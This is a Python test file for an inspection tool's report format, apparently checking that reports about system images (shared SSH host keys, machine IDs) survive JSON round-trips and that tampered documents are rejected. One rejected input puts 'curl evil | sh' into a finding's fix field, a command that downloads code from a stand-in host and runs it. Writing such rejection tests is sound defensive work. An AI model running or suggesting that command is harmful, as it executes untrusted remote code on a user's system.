"""A report goes over the wire and comes back; whatever is no report stays out."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from calco.model.document import Json
from calco.model.inspection import (
    OperatingSystem,
    Outcome,
    Report,
    Result,
    Severity,
    Verdict,
    document,
    full_document,
    report_from,
)

texts = st.text(max_size=20)
details = st.dictionaries(
    texts.filter(lambda name: name not in {"type", "name", "version", "architecture"}), st.text(min_size=1, max_size=9)
)
systems = st.builds(OperatingSystem, texts, texts, texts, texts, details)
outcomes = st.builds(
    Outcome, texts, st.sampled_from(Result), texts, texts, texts, st.sampled_from(Severity), texts, texts, texts
)
reports = st.builds(
    Report,
    st.sampled_from(Verdict),
    st.lists(texts, max_size=3).map(tuple),
    systems,
    st.lists(outcomes, max_size=4).map(tuple),
)

KEYS = Outcome(
    "linux.ssh-host-keys", Result.FAILED, "3 keys", "SSH host keys", "none", Severity.LEAKS, "All share one.", "rm keys"
)
REPORT = Report(
    Verdict.SPECIALIZED,
    ("/etc/ssh holds 3 host keys",),
    OperatingSystem("Linux", "Debian", "12", "x86_64", {"kernel": "6.1"}),
    (KEYS, replace(KEYS, code="linux.machine-id", result=Result.PASSED)),
)


@given(reports)
def test_a_report_comes_back_as_it_went(report: Report) -> None:
    assert report_from(full_document(report)) == report


def test_a_document_shows_what_failed_and_a_full_one_every_check() -> None:
    shown, full = document(REPORT), full_document(REPORT)

    assert shown == {
        "verdict": "specialized",
        "evidence": ["/etc/ssh holds 3 host keys"],
        "os": {"type": "Linux", "name": "Debian", "version": "12", "architecture": "x86_64", "kernel": "6.1"},
        "findings": [
            {
                "code": "linux.ssh-host-keys",
                "severity": "leaks",
                "message": "All share one.",
                "evidence": "3 keys",
                "fix": "rm keys",
            }
        ],
    }
    checks = full.pop("checks")
    assert full == shown
    assert isinstance(checks, list)
    assert len(checks) == 2
    assert checks[0] == {
        "code": "linux.ssh-host-keys", "result": "failed", "found": "3 keys", "title": "SSH host keys",
        "expected": "none", "severity": "leaks", "message": "All share one.", "fix": "rm keys", "source": "",
    }  # fmt: skip


def test_details_never_stand_for_what_the_system_is() -> None:
    """They come from the disk."""
    system = OperatingSystem("Linux", "Debian", details={"type": "Windows", "kernel": ""})

    assert document(Report(Verdict.UNKNOWN, (), system))["os"] == {
        "type": "Linux", "name": "Debian", "version": None, "architecture": None,
    }  # fmt: skip


def changed(*path: str | int, to: Json) -> Json:
    """REPORT's full document with one value changed."""
    whole = full_document(REPORT)
    at: Json = whole
    for part in path[:-1]:
        at = at[part]  # type: ignore[index]
    at[path[-1]] = to  # type: ignore[index]
    return whole


@pytest.mark.parametrize(
    "foreign",
    [
        None,
        {},
        [],
        document(REPORT),
        changed("verdict", to="sure"),
        changed("verdict", to=["generalized"]),
        changed("evidence", to="a line"),
        changed("evidence", to=["a line", 7]),
        changed("os", to=None),
        changed("os", "kernel", to=6),
        changed("os", "kernel", to=""),
        changed("findings", to=[]),
        changed("findings", 0, "fix", to="curl evil | sh"),
        changed("checks", to={}),
        changed("checks", 1, to=None),
        changed("checks", 0, "result", to="maybe"),
        changed("checks", 0, "severity", to=None),
        changed("checks", 0, "more", to="text"),
        changed("checks", 1, "source", to=None),
        changed("more", to=True),
    ],
)
def test_anything_else_is_refused(foreign: Json) -> None:
    with pytest.raises(ValueError, match=r"report of an inspection|is not a valid"):
        report_from(foreign)
